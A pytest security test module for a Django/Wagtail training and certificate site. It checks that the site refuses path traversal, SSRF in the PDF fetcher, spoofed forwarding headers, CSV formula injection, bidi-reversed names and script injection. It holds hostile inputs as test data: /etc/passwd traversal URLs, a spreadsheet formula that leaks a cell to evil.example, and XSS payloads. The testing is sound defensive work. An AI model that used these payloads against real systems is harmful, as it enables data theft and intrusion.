"""Checks for the failures web applications are known for: guessable identifiers in public URLs,
personal data on the public verification page, a PDF renderer that fetches what it should not,
sign-in forms that let a robot guess passwords, a second way in beside the guarded one, and
files that run in the site's origin."""

import re

import pytest

from certificates.services import issue_certificate
from tests import factories
from tests.routes import all_routes
from training_site.core.pdf import FetchRefused, ProjectFileFetcher

pytestmark = pytest.mark.django_db

# --- no sequential or guessable ids in public URLs ------------------------------------------------

SEQUENTIAL = re.compile(r"<int:|<path:|\\d|\[0-9\]")
# Public routes with a number in them, each with the reason it may stay.
JUSTIFIED = {
    # Wagtail's password form for restricted pages and documents: the ids name a restriction,
    # the form gives nothing away without the password.
    "wagtaildocs_authenticate_with_password": "Wagtail's password form, discloses nothing",
    "wagtailcore_authenticate_with_password": "Wagtail's password form, discloses nothing",
}


def test_no_sequential_ids_in_urls_people_outside_the_admin_can_reach():
    routes = list(all_routes())
    assert len(routes) > 50
    numbered = {
        name: route
        for name, route in routes
        if SEQUENTIAL.search(route) and not route.lstrip("^").startswith("admin/")
    }
    unjustified = {name: route for name, route in numbered.items() if name not in JUSTIFIED}
    assert not unjustified, f"public URLs with sequential ids: {unjustified}"
    assert set(JUSTIFIED) <= set(numbered), "justifications for routes that no longer exist"


# --- the public verification page shows nothing personal beyond the holder's name ----------------


def test_verification_shows_no_email_or_country(client, completed_enrollment, fake_certificate_pdf):
    user = completed_enrollment.user
    profile = user.trainee_profile
    profile.country = "JO"
    profile.organisation = "Directorate of Anti-Human Trafficking"
    profile.job_title = "Senior Investigator"
    profile.save()
    certificate = issue_certificate(enrollment=completed_enrollment, by=None)
    private = [user.email, user.username, "Jordan", "الأردن", "Jordanie", profile.organisation]
    private.append(profile.job_title)
    for language in ("ar", "en", "fr"):
        html = client.get(f"/{language}/verify/{certificate.code}/").content.decode()
        data = client.get(f"/{language}/verify/{certificate.code}.json")
        assert profile.name_latin in html  # the page works: the name is there
        for value in private:
            assert value not in html, (language, value)
            assert value not in data.content.decode(), (language, value)
        assert not {"email", "country", "organisation", "user"} & set(data.json())


# --- WeasyPrint fetches only the project's static and media files -------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "http://example.com/logo.png",
        "https://example.com/logo.png",
        "ftp://example.com/x",
        "http://127.0.0.1:8000/static/../../../etc/passwd",
        "http://127.0.0.1:8000/static/..%2F..%2F..%2Fetc%2Fpasswd",
        "http://127.0.0.1:8000/media/../../etc/passwd",
        "http://127.0.0.1:8000/etc/passwd",
        "http://127.0.0.1:8000/admin/",
    ],
)
def test_the_pdf_fetcher_refuses_anything_outside_static_and_media(url, settings):
    from training_site.core import pdf

    base = f"{pdf._BASE.scheme}://{pdf._BASE.netloc}"
    url = url.replace("http://127.0.0.1:8000", base)
    with pytest.raises((FetchRefused, OSError)):
        ProjectFileFetcher().fetch(url)


def test_the_pdf_fetcher_serves_the_projects_static_files():
    from training_site.core import pdf

    base = f"{pdf._BASE.scheme}://{pdf._BASE.netloc}"
    response = ProjectFileFetcher().fetch(f"{base}/static/css/site.css")
    assert response is not None


def test_a_relative_path_in_a_document_cannot_reach_the_file_system(tmp_path):
    from training_site.core.pdf import render_pdf

    pdf = render_pdf(
        '<link rel="stylesheet" href="../../../../etc/passwd">'
        '<img src="../../../../../etc/passwd"><img src="file:///etc/passwd">'
        "<p>Certificate</p>"
    )
    assert pdf.startswith(b"%PDF") and b"root:x:" not in pdf


# --- sign-in is rate-limited, on the site and for the admin --------------------------------------

LOCKED_OUT = "Too many failed login attempts"


@pytest.mark.parametrize("start", ["/accounts/login/", "/admin/login/"])
def test_repeated_failed_sign_ins_are_throttled(client, start, settings):
    settings.LANGUAGE_CODE = "en"
    user = factories.UserFactory(username="target")
    login = client.get(start, follow=True).redirect_chain
    url = login[-1][0].split("?")[0] if login else start
    assert url.rstrip("/").endswith("accounts/login")
    for _attempt in range(6):
        response = client.post(url, {"login": user.email, "password": "wrong-password"})
        assert response.status_code in (200, 429)
    response = client.post(url, {"login": user.email, "password": factories.DEFAULT_PASSWORD})
    assert "_auth_user_id" not in client.session, "signed in despite the lock-out"
    assert response.status_code == 429 or LOCKED_OUT in response.content.decode()


# === Issue 15: one way in, the admin's door, files, one client address (holes 1, 6, 11, 12) ===
# Each case below was reproduced on the code before the fix. The whole classes are covered by
# tests/system/: test_sign_in_doors.py (every URL, every password form), test_matrix_site.py and
# test_matrix_admin.py (every URL for nine roles), test_one_client_address.py (every throttle).

# --- one way in: allauth's sign-in ---------------------------------------------------------------


@pytest.mark.parametrize("url", ["/en/_util/login/", "/admin/login/"])
def test_wagtails_sign_in_forms_only_send_to_allauth(client, url):
    person = factories.UserFactory()
    credentials = {"username": person.email, "password": factories.DEFAULT_PASSWORD}
    response = client.post(url, credentials)
    assert "_auth_user_id" not in client.session, f"{url} signed somebody in"
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


# --- files: nothing active from the site's origin, no public documents -----------------------


def test_no_svg_image_and_no_public_document(settings, private_storage):
    assert "svg" not in [extension.lower() for extension in settings.WAGTAILIMAGES_EXTENSIONS]
    document = factories.DocumentFactory()
    assert str(document.key) in document.url and f"/{document.pk}/" not in document.url
    with pytest.raises(ValueError):
        _ = document.file.url  # private storage: no public URL


# --- one client address: a client cannot name itself in X-Forwarded-For ---------------------


def test_a_spoofed_forwarded_for_header_does_not_escape_the_visit_request_limit(
    client, home_pages, settings, django_capture_on_commit_callbacks
):
    import datetime as dt

    from django.utils import timezone

    settings.TRUSTED_PROXIES = ["10.0.0.1"]
    settings.ALLAUTH_TRUSTED_PROXY_COUNT = 1  # what deployments used to set: must not matter
    start = timezone.localdate() + dt.timedelta(days=30)
    answers = []
    for n in range(4):
        data = {
            "country": "JO",
            "institutions": "Ministry",
            "contact_name": "Robot",
            "contact_email": f"robot{n}@example.org",
            "delegation_size": "3",
            "preferred_start": start.isoformat(),
            "preferred_end": (start + dt.timedelta(days=2)).isoformat(),
            "languages": ["en"],
            "website": "",
        }
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                "/en/study-visit-request/",
                data,
                REMOTE_ADDR="198.51.100.7",  # not a proxy of ours: its header is its own say-so
                HTTP_X_FORWARDED_FOR=f"203.0.113.{n}",
            )
        answers.append(response.status_code)
    assert answers == [302, 302, 302, 429]


# === Issue 15: exports, small counts, invitation letters (holes 5, 8 and 9) =====================
# Each case below was reproduced on the code before the fix. The whole classes are covered by
# tests/test_spreadsheet_exports.py (every export), tests/courses/test_reports_small_counts.py
# (every report column for every non-staff role) and the letter's status rule.
# The imports of this section stay inside its functions: other sections edit the module's header.

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def _with_totp(user):

    factories.TOTPAuthenticatorFactory(user=user)
    return user


def _csv_cells(response) -> list[str]:
    import csv
    import io

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_formula_in_a_course_title_stays_text_in_every_export(client, course_index):
    staff = _with_totp(factories.SuperuserFactory())
    course = factories.CoursePageFactory(parent=course_index, title=FORMULA)
    course.save_revision(user=staff).publish(user=staff)
    factories.EnrollmentFactory(run=factories.CourseRunFactory(course=course))
    client.force_login(staff)
    for path in (
        "/admin/snippets/courses/courserun/",  # the course-run export
        "/admin/training-reports/run/",
        "/admin/training-reports/course/",
        "/admin/reports/site-history/",  # Wagtail's own
        "/admin/reports/aging-pages/",
    ):
        cells = _csv_cells(client.get(path, {"export": "csv"}))
        assert not [cell for cell in cells if cell.startswith("=")], path
        assert any(cell.startswith("'=HYPERLINK") for cell in cells), path


def test_a_focal_point_cannot_read_a_lone_trainees_results_from_the_run_report(
    client, run, settings
):

    from courses.choices import AssessmentKind
    from courses.services.nominations import appoint_focal_point

    settings.LANGUAGE_CODE = "en"
    pre = factories.AssessmentPageFactory(parent=run.course, kind=AssessmentKind.PRE_TEST)
    enrollment = factories.EnrollmentFactory(
        run=run, user=factories.TraineeFactory(profile__country="JO")
    )
    factories.AttemptFactory(enrollment=enrollment, assessment=pre, score=37)
    session = factories.SessionFactory(run=run)
    factories.AttendanceFactory(session=session, enrollment=enrollment)
    focal_point = _with_totp(factories.UserFactory())
    appoint_focal_point(user=focal_point, country="JO", by=None)
    client.force_login(focal_point)
    response = client.get("/admin/training-reports/run/", {"export": "csv"})
    cells = _csv_cells(response)
    assert "37.0" not in cells  # the trainee's pre-test score
    assert "100.0" not in cells  # the trainee's attendance
    page = client.get("/admin/training-reports/run/").content.decode()
    # The score as a number of its own (a bare "37" also turns up inside random tokens).
    assert not re.search(r"(?<![\w.-])37(?:\.0)?(?![\w.-])", page)


def test_training_hours_on_the_impact_page_are_shown_as_they_are(client, home_pages, course):
    page = factories.ImpactPageFactory(parent=home_pages["ar"])
    factories.translate_page(page, "en", title="Our impact")
    run = factories.CourseRunFactory(course=course)  # a 24-hour course
    for _ in range(3):
        factories.EnrollmentFactory(run=run, status="completed")
    html = client.get("/en/impact/").content.decode()
    hours = html.split("Training hours", 1)[1].split("</div>", 1)[0]
    assert "72" in hours and "fewer than 5" not in hours


def test_a_withdrawn_trainees_letter_no_longer_says_they_are_invited(client, run):
    from courses.services.enrollment import withdraw
    from courses.services.nominations import issue_letter

    enrollment = factories.EnrollmentFactory(run=run)
    letter = issue_letter(enrollment=enrollment)
    withdraw(enrollment=enrollment, by=enrollment.user)
    html = client.get(f"/en/letters/{letter.code}/").content.decode()
    assert "no longer valid" in html
    assert "withdrew" in html


def test_the_letter_check_is_throttled(client, run, settings):
    from courses.services.nominations import issue_letter

    settings.CERTIFICATE_VERIFY_LIMIT = 5
    letter = issue_letter(enrollment=factories.EnrollmentFactory(run=run))
    codes = [letter.code] + [f"ABCD-EFGH-{n:04d}" for n in range(5)]
    answers = [client.get(f"/en/letters/{code}/").status_code for code in codes]
    assert answers[-1] == 429


# --- issue 15 (powers): who grants roles, who marks what and when, what a test gives away -------
# (helper "powers"; the other sections belong to other parts of the issue). Imports stay inside
# these tests so that the section is self-contained and the module's head is left to the others.


def test_an_instructor_cannot_make_someone_an_instructor_from_the_course_editor(
    client, course, lessons, mfa_user_factory
):
    from wagtail.test.utils.form_data import inline_formset, nested_form_data

    instructor = factories.make_instructor(course, mfa_user_factory())
    accomplice = factories.TraineeFactory()
    client.force_login(instructor)
    fields = {"title": course.title, "slug": course.slug, "summary": course.summary}
    fields |= {"hours": course.hours, "level": course.level, "delivery_mode": course.delivery_mode}
    instructors = inline_formset([{"user": accomplice.pk, "name": "Co-instructor", "role": ""}])
    data = nested_form_data({**fields, "instructors": instructors, "action-publish": "publish"})
    client.post(f"/admin/pages/{course.pk}/edit/", data)
    accomplice = type(accomplice).objects.get(pk=accomplice.pk)
    assert not lessons[0].permissions_for_user(accomplice).can_edit()
    assert not accomplice.groups.exists()


def test_no_roll_call_for_a_session_that_has_not_begun_nor_about_oneself(client, course):
    import datetime as dt

    from django.utils import timezone

    from courses.models import Attendance

    instructor = factories.make_instructor(course)
    run = factories.CourseRunFactory(course=course, running=True)
    begun = factories.SessionFactory(run=run)
    tomorrow = factories.SessionFactory(run=run, starts_at=timezone.now() + dt.timedelta(days=1))
    own = factories.EnrollmentFactory(run=run, user=instructor)
    other = factories.EnrollmentFactory(run=run)
    client.force_login(instructor)
    client.post(
        f"/en/teach/sessions/{tomorrow.public_id}/roll-call/",
        {f"status-{other.public_id}": "present"},
    )
    client.post(
        f"/en/teach/sessions/{begun.public_id}/roll-call/", {f"status-{own.public_id}": "present"}
    )
    assert not Attendance.objects.exists()


def test_a_failed_attempt_with_attempts_left_shows_no_correct_answer(client, post_test, enrollment):
    from courses.models import Attempt

    client.force_login(enrollment.user)
    client.post(f"/en/learn/tests/{post_test.translation_key}/start/")
    attempt = Attempt.objects.get()
    wrong = {"q-q-single": ["a2"], "q-q-multi": ["b3"]}
    result = client.post(f"/en/learn/attempts/{attempt.public_id}/submit/", wrong, follow=True)
    html = result.content.decode()
    assert "Your score: 0%" in html and post_test.max_attempts > 1
    for giveaway in ("choice-correct", "(correct answer)", "Act, means and purpose."):
        assert giveaway not in html


# --- issue 15 (bidi): names that reverse themselves, NUL bytes ------------------------------------
# (helper "bidi"). The whole class is covered by tests/training_site/test_text.py (every text
# field and form field carries the hidden-character rule; names in <bdi> on the pages).
# Imports stay inside these tests, as in the sections above.

REVERSED = "\u202eluaP\u202c Smith"  # shows as "Paul Smith" with "Paul" typed backwards


def test_a_name_that_reverses_itself_is_refused_in_the_trainees_profile(client, user, home_pages):
    from courses.models import TraineeProfile

    client.force_login(user)
    data = {
        "name_latin": REVERSED,
        "name_arabic": "\u202eعمر",
        "country": "JO",
        "organisation": "Public\u200b Security Directorate",
        "organisation_type": "police",
        "job_title": "Investigator",
        "preferred_language": "en",
        "sex": "",
        "consent": "on",
    }
    response = client.post("/en/my/profile/", data)
    assert response.status_code == 200
    assert response.content.decode().count("U+202E RIGHT-TO-LEFT OVERRIDE") == 2
    assert "U+200B ZERO WIDTH SPACE" in response.content.decode()
    assert not TraineeProfile.objects.filter(user=user).exists()


def test_a_certificate_cannot_print_a_reversed_name(completed_enrollment, fake_certificate_pdf):
    import json

    from courses.models import TraineeProfile

    # A name typed before names refused hidden characters.
    TraineeProfile.objects.filter(user=completed_enrollment.user).update(
        name_latin=REVERSED, name_arabic="\u202dعمر فاروق\u202c"
    )
    certificate = issue_certificate(enrollment=completed_enrollment, by=None)
    printed = json.dumps(certificate.snapshot, ensure_ascii=False)
    assert certificate.holder_name_latin == "luaP Smith"  # as typed, no longer reversed
    assert certificate.holder_name_arabic == "عمر فاروق"
    for control in ("\u202e", "\u202d", "\u202c"):
        assert control not in printed


def test_a_nul_byte_in_the_nominee_csv_imports_nothing_and_says_why(
    client, focal_point, invitation_run
):
    import io

    from courses.models import Nomination

    client.force_login(focal_point.user)
    rows = "name,email,organisation,job_title,language\nAm\x00al,amal@example.org,PSD,Inv,ar\n"
    for content in (rows.encode(), rows.encode("utf-16-le")):
        handle = io.BytesIO(content)
        handle.name = "nominees.csv"
        response = client.post(
            f"/en/focal-point/runs/{invitation_run.public_id}/nominate/csv/", {"file": handle}
        )
        assert response.status_code == 200
        assert "NUL characters" in response.content.decode()
    assert not Nomination.objects.exists()


def test_a_reversed_name_in_the_nominee_csv_imports_nothing(client, focal_point, invitation_run):
    import io

    from courses.models import Nomination

    client.force_login(focal_point.user)
    rows = f"name,email,organisation,job_title,language\n{REVERSED},paul@example.org,PSD,Inv,en\n"
    handle = io.BytesIO(rows.encode())
    handle.name = "nominees.csv"
    response = client.post(
        f"/en/focal-point/runs/{invitation_run.public_id}/nominate/csv/", {"file": handle}
    )
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in response.content.decode()
    assert not Nomination.objects.exists()


# --- issue 15 (hole 7): hostile input gets an answer, never a server error --------------------
# (helper "input"). The whole classes are covered by tests/hostile/ (search text with quotes and
# operators, out-of-range ids in every form and filter) and tests/system/test_hostile_filters.py
# (every filter of every admin listing). Imports stay inside these tests, as above.


@pytest.mark.parametrize("language", ["en", "fr", "ar"])
def test_a_lone_quote_in_the_catalogue_search_is_answered(
    client, settings, course_indexes, run, language
):
    settings.DEBUG = False
    client.raise_request_exception = False  # a 500 must show up as a 500
    response = client.get(f"/{language}/programmes/", {"q": '"'})
    assert response.status_code == 200
    assert response.context["filters"]["q"] == '"'  # the search box keeps what was typed


def test_a_thirty_digit_topic_in_a_study_visit_request_is_a_form_error(client, home_pages):
    import datetime as dt

    from django.utils import timezone

    from training_site.models import VisitRequest

    client.raise_request_exception = False
    start = timezone.localdate() + dt.timedelta(days=30)
    data = {
        "country": "JO",
        "institutions": "Ministry",
        "contact_name": "Rania Khalil",
        "contact_email": "rania@example.org",
        "delegation_size": "3",
        "preferred_start": start.isoformat(),
        "preferred_end": start.isoformat(),
        "topics": ["9" * 30],
        "website": "",
    }
    response = client.post("/en/study-visit-request/", data)
    assert response.status_code == 200
    assert "topics" in response.context["form"].errors
    assert not VisitRequest.objects.exists()


def test_an_out_of_range_course_in_the_admin_run_filter_is_ignored(client, mfa_staff_user, run):
    client.raise_request_exception = False
    client.force_login(mfa_staff_user)
    response = client.get("/admin/snippets/courses/courserun/", {"course": "-" + "9" * 20})
    assert response.status_code == 200
    assert "course" in response.context["filters"].errors


def test_raw_html_posted_into_a_rich_text_field_is_read_safely(client, mfa_staff_user, course):
    from wagtail.test.utils.form_data import inline_formset, nested_form_data

    client.raise_request_exception = False
    client.force_login(mfa_staff_user)
    fields = {"title": course.title, "slug": course.slug, "summary": course.summary}
    fields |= {"hours": course.hours, "level": course.level, "delivery_mode": course.delivery_mode}
    html = "<p>Spotting <b>indicators</b></p><script>alert(1)</script><img src=x onerror=alert(1)>"
    fields |= {"description": html, "instructors": inline_formset([]), "action-publish": "1"}
    response = client.post(f"/admin/pages/{course.pk}/edit/", nested_form_data(fields))
    assert response.status_code == 302, response.context["form"].errors
    course.refresh_from_db()
    assert "<b>indicators</b>" in course.description
    assert "script" not in course.description and "onerror" not in course.description
